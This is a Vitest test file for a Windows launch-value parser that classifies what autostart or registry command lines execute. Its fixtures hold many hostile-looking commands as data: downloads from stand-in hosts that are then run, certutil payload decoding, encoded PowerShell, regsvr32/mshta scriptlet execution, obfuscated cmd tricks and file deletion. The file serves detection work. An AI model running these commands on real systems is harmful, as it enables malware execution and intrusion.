import { expect, test } from 'vitest';
import { readValueTarget } from '../../../src/core/windows/launch/value-target.ts';

const encode = (code: string) => Buffer.from(code, 'utf16le').toString('base64');

/** data, kind, path, launchers; `-` for none. */
const SHAPES = String.raw`
""C:\Program Files\A B\c.exe"" /x | executable | c:\program files\a b\c.exe | -
"C:\Program Files\A B\c.exe"/x | executable | c:\program files\a b\c.exe | -
"cmd.exe /c C:\x\a.exe" | executable | c:\x\a.exe | cmd
%HOMEDRIVE%%HOMEPATH%\x.exe | executable | ?:\users\*\x.exe | -
%%HOMEDRIVE%%%%HOMEPATH%%\x.exe | executable | ?:\users\*\x.exe | -
\\.\C:\x\a.exe | executable | c:\x\a.exe | -
\\?\GLOBALROOT\Device\HarddiskVolume1\x\a.exe | executable | ?:\x\a.exe | -
\Device\HarddiskVolume3\Users\a\b.exe | executable | ?:\users\a\b.exe | -
\??\UNC\srv\share\a.exe | unc | \\srv\share\a.exe | -
\SystemRoot\System32\x.exe | executable | c:\windows\system32\x.exe | -
file:///C:/Users/a/b.exe | executable | c:\users\a\b.exe | -
shell:startup | url | - | -
ms-settings:display | url | - | -
search-ms:query=a&crumb=location:\\srv\share | url | - | -
userinit.exe,C:\x\a.exe | executable | c:\x\a.exe | -
C:\Windows\system32\userinit.exe, | executable | c:\windows\system32\userinit.exe | -
cmd /q /c del /q "C:\x\a.exe" | removal | - | cmd
cmd.exe /c "rd /s /q C:\x" | removal | - | cmd
cmd /c del C:\x\a.exe & rmdir C:\x | removal | - | cmd
cmd /c del C:\x\a.exe & C:\x\b.exe | executable | c:\x\b.exe | cmd
cmd /c del C:\x\a.exe && start C:\x\b.exe | executable | c:\x\b.exe | cmd>start
cmd /c del %X% | bare_name | del | cmd
cmd /c del.exe C:\x | bare_name | del.exe | cmd
cmd.exe /c "C:\x\b.bat > nul 2>&1" | script | c:\x\b.bat | cmd
cmd /c for %i in (1 2) do C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /c "timeout 5 & start C:\x\a.exe" | executable | c:\x\a.exe | cmd>start
cmd /c curl -o %TEMP%\a.exe http://e.test/a && %TEMP%\a.exe | executable | ?:\users\*\appdata\local\temp\a.exe | cmd>curl
powershell Start-Process C:\x\a.exe | executable | c:\x\a.exe | powershell
powershell -c "Start-Process -FilePath 'C:\x y\a.exe' -ArgumentList '-q' -WindowStyle Hidden" | executable | c:\x y\a.exe | powershell
powershell -c "& {C:\x\y.ps1}" | script | c:\x\y.ps1 | powershell
powershell -command "iex (gc C:\x\a.txt -raw)" | inline_code | c:\x\a.txt | powershell
powershell -c "[Reflection.Assembly]::LoadFile('C:\x\a.dll')" | inline_code | c:\x\a.dll | powershell
powershell -c "(New-Object -ComObject WScript.Shell).Run('C:\x\a.exe')" | inline_code | c:\x\a.exe | powershell
powershell -c "iwr http://e.test/a -o $env:temp\a.exe;& $env:temp\a.exe" | inline_code | ?:\users\*\appdata\local\temp\a.exe | powershell
powershell -c "while(1){C:\x\a.exe; sleep 5}" | inline_code | c:\x\a.exe | powershell
powershell -c "Start-Job {C:\x\a.exe}" | inline_code | c:\x\a.exe | powershell
powershell -c "& $env:APPDATA\a.exe" | executable | ?:\users\*\appdata\roaming\a.exe | powershell
powershell -c "Add-Type -Path C:\x\a.dll" | inline_code | c:\x\a.dll | powershell
powershell -c "iwmi win32_process create 'C:\x\a.exe'" | inline_code | c:\x\a.exe | powershell
powershell -c "Invoke-CimMethod Win32_Process Create @{CommandLine='C:\x\a.exe'}" | inline_code | c:\x\a.exe | powershell
powershell -ea QQBBAEEA -c C:\x\a.exe | executable | c:\x\a.exe | powershell
cmd /c certutil -decode C:\x\a.txt C:\x\a.exe & C:\x\a.exe | executable | c:\x\a.exe | cmd>certutil
certutil -f -decode C:\x\a.txt C:\x\a.exe | document | c:\x\a.exe | certutil
cmd /c type C:\x\a.ps1 | powershell - | script | c:\x\a.ps1 | cmd>powershell
cmd /c powershell -nop - < C:\x\a.ps1 | script | c:\x\a.ps1 | cmd>powershell
cmd /c echo iex (irm http://e.test) | powershell -nop - | inline_code | - | cmd>powershell
cmd /c "echo C:\x\a.exe | cmd" | executable | c:\x\a.exe | cmd>cmd
powershell -c rundll32.exe 'C:\x\a.dll,Go' | library | c:\x\a.dll | powershell>rundll32
powershell -c "iex (gc 'C:\x y\a.txt' -raw)" | inline_code | c:\x y\a.txt | powershell
powershell -c "$c=gc C:\x\a.txt; iex $c" | inline_code | c:\x\a.txt | powershell
powershell -c "$p='C:\x\a.exe'; & $p" | inline_code | c:\x\a.exe | powershell
powershell -c "$d='C:\x'; & $d\a.exe" | inline_code | c:\x\a.exe | powershell
python -c "import os;os.system('C:\\x\\a.exe')" | inline_code | c:\x\a.exe | python
mshta javascript:GetObject("script:C:\x\a.sct") | inline_code | c:\x\a.sct | mshta
cmd /c start /min "" "C:\a b\c.exe" | executable | c:\a b\c.exe | cmd>start
cmd /c start /min /d "C:\a b" "t" /b c.exe -q | executable | c:\a b\c.exe | cmd>start
cmd /c start "C:\x\a.exe" | none | - | cmd>start
C:\Users\Public\start.exe C:\Windows\notepad.exe | executable | c:\users\public\start.exe | -
C:\Program Files\Start Menu X\StartMenuX.exe | executable | c:\program files\start menu x\startmenux.exe | -
C:\Program Files\A -- B\x.exe | executable | c:\program files\a -- b\x.exe | -
C:\x\python a.py C:\y\b.exe | script | a.py | python
cmd /c C:\Windows\notepad.exe & C:\Users\Public\a.exe | executable | c:\users\public\a.exe | cmd
cmd /c "C:\Program Files\A\b.exe & C:\Users\Public\a.exe" | executable | c:\users\public\a.exe | cmd
cmd /c notepad & C:\Program Files\A\b.exe | executable | c:\program files\a\b.exe | cmd
cmd /c explorer.exe C:\x & C:\Users\Public\a.exe | executable | c:\users\public\a.exe | cmd
C:\Windows \System32\a.exe | executable | c:\windows \system32\a.exe | -
C:\Users\Public\a .exe -q | executable | c:\users\public\a .exe | -
\\?\GLOBALROOT\??\C:\x\a.exe | executable | c:\x\a.exe | -
\DosDevices\C:\x\a.exe | executable | c:\x\a.exe | -
\GLOBAL??\C:\x\a.exe | executable | c:\x\a.exe | -
\\?\HarddiskVolume3\x\a.exe | executable | ?:\x\a.exe | -
cmd /v:on /c "set a=rundll32 &set b=C:\x\a.dll,Go&!a!!b!" | library | c:\x\a.dll | cmd>rundll32
cmd /c (set x=C:\x\a.exe)&call %x% | executable | c:\x\a.exe | cmd>call
tttracer C:\x\a.exe | executable | c:\x\a.exe | tttracer
certoc -LoadDLL C:\x\a.dll | library | c:\x\a.dll | certoc
wuauclt /UpdateDeploymentProvider C:\x\a.dll /RunHandlerComServer | library | c:\x\a.dll | wuauclt
C:\x\a.settingcontent-ms | document | c:\x\a.settingcontent-ms | -
powershell -c "Get-Date; 1" | inline_code | - | powershell
powershell -c "$x='C:\x\a.exe'; start $x" | inline_code | c:\x\a.exe | powershell
powershell -c "$x=(whoami); start $x" | inline_code | - | powershell
mshta vbscript:CreateObject("WScript.Shell").Run("C:\x\a.exe",0)(window.close) | inline_code | c:\x\a.exe | mshta
rundll32 advpack.dll,RegisterOCX "cmd.exe /c C:\x\a.exe" | executable | c:\x\a.exe | rundll32>cmd
rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\x\a.inf | document | c:\x\a.inf | rundll32
rundll32 shell32.dll,#44 C:\x\a.cpl | library | c:\x\a.cpl | rundll32
rundll32 scrobj.dll,GenerateTypeLib https://example.test/a.sct | url | - | rundll32
rundll32 desk.cpl,InstallScreenSaver C:\x\a.scr | executable | c:\x\a.scr | rundll32
rundll32.exe -sta {00000000-0000-0000-0000-000000000000} | bare_name | rundll32.exe | -
msiexec /x {11111111-1111-1111-1111-111111111111} | bare_name | msiexec | -
conhost.exe 0xffffffff -ForceV1 C:\x\a.exe | executable | c:\x\a.exe | conhost
wsl.exe -e bash -c "curl http://e.test | sh" | inline_code | - | wsl
wsl --exec /mnt/c/x/a.exe | executable | c:\x\a.exe | wsl
wsl -d Ubuntu -u root -e /root/x.sh | inline_code | - | wsl
bash -c "/mnt/c/x/a.exe" | executable | c:\x\a.exe | bash
wscript.exe /e:jscript /b C:\x\a.gif | script | c:\x\a.gif | wscript
wscript script:https://example.test/a.sct | url | - | wscript
explorer.exe /root,"C:\x\a.exe" | executable | c:\x\a.exe | explorer
explorer.exe /select,"C:\x\a.exe" | bare_name | explorer.exe | -
python3.11.exe C:\x\a.py | script | c:\x\a.py | python
python -m http.server | inline_code | - | python
AutoHotkeyU64.exe C:\x\a.ahk | script | c:\x\a.ahk | autohotkey
deno run -A C:\x\a.ts | script | c:\x\a.ts | deno
dotnet C:\x\a.dll | library | c:\x\a.dll | dotnet
odbcconf /a {REGSVR C:\x\a.dll} | library | c:\x\a.dll | odbcconf
mavinject 123 /INJECTRUNNING C:\x\a.dll | library | c:\x\a.dll | mavinject
mmc C:\x\a.msc | document | c:\x\a.msc | mmc
cmstp /s C:\x\a.inf | document | c:\x\a.inf | cmstp
wmic /node:host process call create 'C:\x\a.exe' | executable | c:\x\a.exe | wmic
wmic os get /format:"http://e.test/a.xsl" | url | - | wmic
ftp -s:C:\x\a.txt | document | c:\x\a.txt | ftp
ssh -o ProxyCommand=C:\x\a.exe . | executable | c:\x\a.exe | ssh
wt -d . cmd /c C:\x\a.exe | executable | c:\x\a.exe | wt>cmd
nircmd exec hide C:\x\a.bat | script | c:\x\a.bat | nircmd
SyncAppvPublishingServer.vbs "n; calc" | inline_code | - | syncappvpublishingserver
regedit /s C:\x\a.reg | document | c:\x\a.reg | regedit
C:\Users\kim\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk | document | c:\users\kim\appdata\roaming\microsoft\windows\start menu\programs\startup\a.lnk | -
C:\Program Files\Java Runtime\bin\a.exe -q | executable | c:\program files\java runtime\bin\a.exe | -
C:\Program Files\Foo - Bar\a.exe /q | executable | c:\program files\foo - bar\a.exe | -
C:\Windows\System32\wscript sub\a.vbs | script | sub\a.vbs | wscript
C:\x\a.exe::$DATA | executable | c:\x\a.exe | -
C:\x\a.txt:b.exe:$DATA | executable | c:\x\a.txt:b.exe | -
\\?\Volume{01234567-89ab-cdef-0123-456789abcdef}\x\a.exe | executable | ?:\x\a.exe | -
\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\x\a.exe | executable | ?:\x\a.exe | -
%COMSPEC:~0,1%md /c C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /c %ProgramData:~0,1%%ProgramData:~9,2% | bare_name | cmd | cmd
cmd /c %windir:windows=x%\a.exe | executable | c:\x\a.exe | cmd
cmd /v /c set x=C:\x\a.exe&!x! | executable | c:\x\a.exe | cmd
cmd /v:on /c "set x=pow&set y=ershell&!x!!y! -c calc" | inline_code | - | cmd>powershell
cmd /c "set "p=C:\a b"&& call "%p%\c.exe"" | executable | c:\a b\c.exe | cmd>call
cmd /c set x=xxC:\x\a.exeyy&!x:~2,-2! | executable | c:\x\a.exe | cmd
cmd /s/c C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /Q/D/c C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd.exe/c"C:\x\a.exe" | executable | c:\x\a.exe | cmd
cmd /c;;,C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /c ((C:\x\a.exe)) | executable | c:\x\a.exe | cmd
cmd /c (C:\x\a.exe)&exit | executable | c:\x\a.exe | cmd
cmd /c C:\x (86)\a.exe&exit | executable | c:\x (86)\a.exe | cmd
cmd /c C:\x\a.bat<nul >nul 2>nul | script | c:\x\a.bat | cmd
cmd /c >nul C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /c "p""owershell" -c calc | inline_code | - | cmd>powershell
cmd /c C:\x\"a".exe | executable | c:\x\a.exe | cmd
cmd /c cd C:\x && a.exe | executable | c:\x\a.exe | cmd
cmd /c cd C:\x && calc | bare_name | calc | cmd
cmd /c start /d "C:\a b" /min c.exe | executable | c:\a b\c.exe | cmd>start
cmd /c if exist C:\x\a.exe (C:\x\a.exe) | executable | c:\x\a.exe | cmd
cmd /c if not exist C:\x (md C:\x) else C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /c if /i "%USERNAME%"=="bob" C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /c for %i in (C:\x\a.exe) do start %i | executable | c:\x\a.exe | cmd>start
cmd /c for /f %i in (C:\x\list.txt) do start %i | inline_code | - | cmd
cmd /c for /f "tokens=2*" %a in ('reg query HKCU\Software\X /v Y') do %b | registry_payload | - | cmd
forfiles /m calc.exe /c "0x63md /c C:\x\a.exe" | executable | c:\x\a.exe | forfiles>cmd
bitsadmin /SetNotifyCmdLine j C:\x\a.exe "a.exe -q" | executable | c:\x\a.exe | bitsadmin
control /name Microsoft.System | bare_name | control | -
wmic os get /format:C:\x\a.xsl | script | c:\x\a.xsl | wmic
wt -w 0 nt -d C:\ powershell -c calc | inline_code | - | wt>powershell
java -cp C:\x\a.jar Main -q | script | c:\x\a.jar | java
rundll32 /d C:\x\a.dll,Go | library | c:\x\a.dll | rundll32
regsvr32 /s/n/u/i:http://e.test/a.sct scrobj.dll | url | - | regsvr32
regsvr32 /s /i:C:\x\a.png scrobj.dll | script | c:\x\a.png | regsvr32
msiexec /qn/ihttp://e.test/a.png | url | - | msiexec
msiexec /Q/I "http://e.test/a" | url | - | msiexec
msiexec /fv C:\x\a.msi | document | c:\x\a.msi | msiexec
msiexec /i {11111111-1111-1111-1111-111111111111} | bare_name | msiexec | -
@C:\x\a.exe | executable | c:\x\a.exe | -
"" C:\x\a.exe | executable | c:\x\a.exe | -
"https://example.test/a" -x | url | - | -
C:\Windows\system32\userinit.exe, C:\x\a.exe | executable | c:\x\a.exe | -
C:\Windows\explorer.exe,mshta vbscript:Execute("x") | inline_code | - | mshta
cmd /c C:\x\a.exe del /q | executable | c:\x\a.exe | cmd
cmd /c start "C:\t" & C:\x\a.exe | executable | c:\x\a.exe | cmd
cmd /c C:\Program Files\A\b.exe & powershell -c "while(1){notepad.exe}" | inline_code | - | cmd>powershell
cmd /c C:\Program Files\A\b.exe & powershell -c "while(1){C:\Windows\notepad.exe}" | inline_code | c:\windows\notepad.exe | cmd>powershell
cmd /c explorer C:\x\a.lnk & C:\Program Files\B\b.exe | document | c:\x\a.lnk | cmd>explorer
cmd /c start explorer C:\x & C:\Program Files\B\b.exe | executable | c:\program files\b\b.exe | cmd
cmd /c C:\Windows\notepad.exe & C:\Windows\Temp\a.exe | executable | c:\windows\temp\a.exe | cmd
cmd /c C:\Windows\System32\calc.exe & C:\Users\Public\a.exe | executable | c:\users\public\a.exe | cmd
cmd /c C:\Windows\SysWOW64\calc.exe & C:\Users\Public\a.exe | executable | c:\users\public\a.exe | cmd
cmd /c C:\Windows\Sysnative\calc.exe & C:\Users\Public\a.exe | executable | c:\users\public\a.exe | cmd
cmd /c C:\Program Files (x86)\A\b.exe & C:\Users\Public\a.exe | executable | c:\users\public\a.exe | cmd
cmd /c start /wait certutil -decode C:\x\a.txt C:\x\b.exe & C:\x\b.exe | executable | c:\x\b.exe | cmd>start>certutil
cmd /c ping.exe -n 3 127.0.0.1 & notepad.exe | bare_name | notepad.exe | cmd
powershell -c "& \"C:\x y\a.exe\"" | executable | c:\x y\a.exe | powershell
echo cmd/c x | bare_name | echo | -
../tools/my app.exe -q | executable | ..\tools\my app.exe | -
./my app.exe -q | bare_name | my app.exe | -
C:\Windows\System32\spool\start page\a.exe | executable | c:\windows\system32\spool\start page\a.exe | -
C:/py/python sub\a.py | script | sub\a.py | python
C:\x\python -u sub\a.py | script | sub\a.py | python
C:\x\python a.PY sub\b.txt | script | a.py | python
C:\tools\python serve now | script | serve | python
C:\Program Files\Foo -Old\a.exe /q | executable | c:\program files\foo -old\a.exe | -
C:\x\run https://e.test/a.exe | executable | c:\x\run | -
C:\x\run http://e.test/a.exe | executable | c:\x\run | -
C:\x\run %TEMP%\a.exe | executable | c:\x\run | -
C:\x\run @list.exe | executable | c:\x\run | -
"C:\x\rundll32" C:\a.dll,Go | library | c:\a.dll | rundll32
"C:\Program Files\A B\run" | executable | c:\program files\a b\run | -
"C:\Program Files\A B\run -x" | executable | c:\program files\a b\run | -
`
  .trim()
  .split('\n')
  .map((line) => {
    const parts = line.split(' | ');
    // The data itself may hold bars.
    return [parts.slice(0, -3).join(' | '), ...parts.slice(-3)] as const;
  });

test.each(SHAPES)('%s', (data, kind, path, launchers) => {
  const read = readValueTarget(data);
  expect([read.kind, read.path ?? '-', read.launchers.join('>') || '-']).toEqual([kind, path, launchers]);
});

test('what is fetched and then started keeps its address and the shell that runs it', () => {
  expect(readValueTarget('cmd /c curl -o C:\\x\\a.exe http://e.test/a && C:\\x\\a.exe')).toMatchObject({
    url: 'http://e.test/a',
    interpreter: 'cmd',
  });
});

test('code in an encoded command is read for what it starts', () => {
  const data = `powershell -w hidden -enc ${encode('Start-Process C:\\Users\\Public\\a.exe -WindowStyle Hidden')}`;
  expect(readValueTarget(data)).toMatchObject({ kind: 'executable', path: 'c:\\users\\public\\a.exe' });
});

test('a key with a blank in its name is read whole, and variables in arguments stay as the log has them', () => {
  expect(readValueTarget("powershell -c iex (gp 'HKCU:\\Software\\A B').Y").registryPath).toBe(
    'HKCU\\Software\\A B\\Y',
  );
  expect(readValueTarget('"C:\\A B\\c.exe" "-q" "x y"').arguments).toBe('"-q" "x y"');
  expect(readValueTarget('%ProgramFiles%\\A B\\c.exe %TEMP%\\x').arguments).toBe('%TEMP%\\x');
  expect(readValueTarget('powershell -c "& ${'.concat('env:TEMP}\\a.exe"')).path).toBe(
    '?:\\users\\*\\appdata\\local\\temp\\a.exe',
  );
  expect(readValueTarget('powershell -c "iex $env:TEMP"').code).toBe('"iex $env:TEMP"');
});

test.each([
  '(Get-Item HKCU:\\Software\\X).GetValue("Y")',
  "[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\\X').GetValue('Y')",
  'reg query HKCU\\Software\\X /v Y',
  '(gp HKCU:\\Software\\X).Y',
  'Get-ItemPropertyValue -Name Y -Path HKCU:\\Software\\X',
  "Get-ItemProperty -LiteralPath:'HKCU:\\Software\\X' -N Y",
  'gi HKCU:\\Software\\X | gp -name Y | select -exp Y',
  'gp HKCU:\\Software\\X | select -ExpandProperty Y',
  'cd HKCU:\\Software\\X; (gp . Y).Y',
])('a launcher that reads its code with %s names the value', (reading) => {
  expect(readValueTarget(`powershell -c iex (${reading})`)).toMatchObject({
    kind: 'registry_payload',
    registryPath: 'HKCU\\Software\\X\\Y',
  });
});

test('a program in quotes, or quotes around nothing, is never an unquoted path', () => {
  expect(readValueTarget('"C:\\Program Files\\A B\\run -x"').unquotedBlank).toBeUndefined();
  expect(readValueTarget('""')).toStrictEqual({ raw: '""', kind: 'none', launchers: [], program: '' });
  expect(readValueTarget('"" "C:\\x\\a.exe"').kind).toBe('none');
});

test('what is not said is not there', () => {
  expect(readValueTarget('C:\\x\\a.exe')).toStrictEqual({
    raw: 'C:\\x\\a.exe',
    kind: 'executable',
    path: 'c:\\x\\a.exe',
    program: 'c:\\x\\a.exe',
    launchers: [],
  });
  expect(readValueTarget(undefined)).toStrictEqual({ kind: 'binary', raw: '', launchers: [] });
});

test.each([
  ['C:\\x\\a.exe\u0000-q', '-q'],
  ['C:\\x\\a.exe kim@', 'kim@'],
  ['"C:\\a b\\c.exe" "-q', '-q'],
  ['"C:\\a b\\c.exe"" -q', '-q'],
  ['"C:\\a b\\c.exe" -q "x"', '-q "x"'],
  ['%TEMP%\\my app.exe "%APPDATA%\\x" -q', '"%APPDATA%\\x" -q'],
  ['C:\\x\\run https://e.test/a.exe', 'https://e.test/a.exe'],
])('the program of %j is given %s', (data, given) => {
  expect(readValueTarget(data).arguments).toBe(given);
});

test('a variable that is no folder of Windows names the value it is read from, when it is the program', () => {
  expect(readValueTarget('%MYTOOLS%\\a.exe').registryPath).toBe('HKCU\\Environment\\mytools');
  expect(readValueTarget('C:\\x\\%MYTOOLS%\\a.exe').registryPath).toBeUndefined();
});

test('of two addresses the one that comes first is kept', () => {
  const data = 'cmd /c curl -o a http://a.test/x & powershell -c "iwr http://b.test/y"';
  expect(readValueTarget(data)).toMatchObject({ url: 'http://a.test/x', interpreter: 'powershell' });
});

test.each([
  ['launchers', 'cmd /c ', 'C:\\x\\a.exe'],
  ['conditions', 'if exist C:\\y ', 'C:\\x\\a.exe'],
  ['code', 'powershell -c ', 'C:\\x\\a.exe'],
])('%s within one another are followed a few steps deep, not to the end', (_what, step, end) => {
  expect(readValueTarget(step.repeat(2) + end).path).toBe('c:\\x\\a.exe');
  const deep = readValueTarget(step.repeat(40) + end);
  expect(deep.path).not.toBe('c:\\x\\a.exe');
  expect(deep.launchers.length).toBeLessThanOrEqual(8);
});
